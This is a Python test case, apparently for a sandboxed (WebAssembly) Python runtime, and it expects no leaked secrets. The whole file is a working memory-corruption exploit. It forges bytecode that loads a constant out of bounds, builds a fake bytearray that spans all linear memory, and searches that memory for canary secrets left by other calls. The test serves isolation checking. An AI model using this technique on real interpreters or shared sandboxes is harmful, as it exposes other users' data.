# tries: Searches all of linear memory, grown by 40 MB, through a forged bytearray for the secrets of other calls.
# must: returns []
# repeat: 32
# limits: cpu=20000ms
import logging
import struct
import types

names = logging.sys.modules["opcode"].opmap
kept = []


def plain():
    return 1


def object_at(address):
    """The object at an address, loaded as a constant that lies outside of the table."""
    consts = (1, 2)
    pointer = struct.pack("<I", address)
    index = (id(pointer) - id(consts)) // 4 & 0x3FFFFFFF
    code = bytes([names["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([names["EXTENDED_ARG"], index >> shift & 255])
    code += bytes([names["LOAD_CONST"], index & 255, names["RETURN_VALUE"], 0])
    made = plain.__code__.replace(co_code=code, co_consts=consts)
    return types.FunctionType(made, {})()


def search(memory):
    """All texts that begin as secrets do and go on with their digits."""
    needle, found, place = "".join(reversed("YRANAC")).encode(), set(), 0
    while (place := memory.find(needle, place)) >= 0:
        text = memory[place : place + 38].decode("latin-1")
        if len(text) == 38 and all(digit in "0123456789abcdef" for digit in text[6:]):
            found.add(text)
        place += 1
    return sorted(found)


def view(end):
    forged = struct.pack("<7I", 1 << 20, id(bytearray), end - 8, end - 8, 8, 8, 0)
    kept.append(forged)
    return object_at(id(forged) + 16)


def start_of(grown):
    """Where the bytes of a bytearray begin."""
    address = id(grown)
    return struct.unpack_from("<I", view(address + 28), address - 8 + 20)[0]


async def main():
    grown = bytearray(40 << 20)
    return search(view(start_of(grown) + len(grown)))
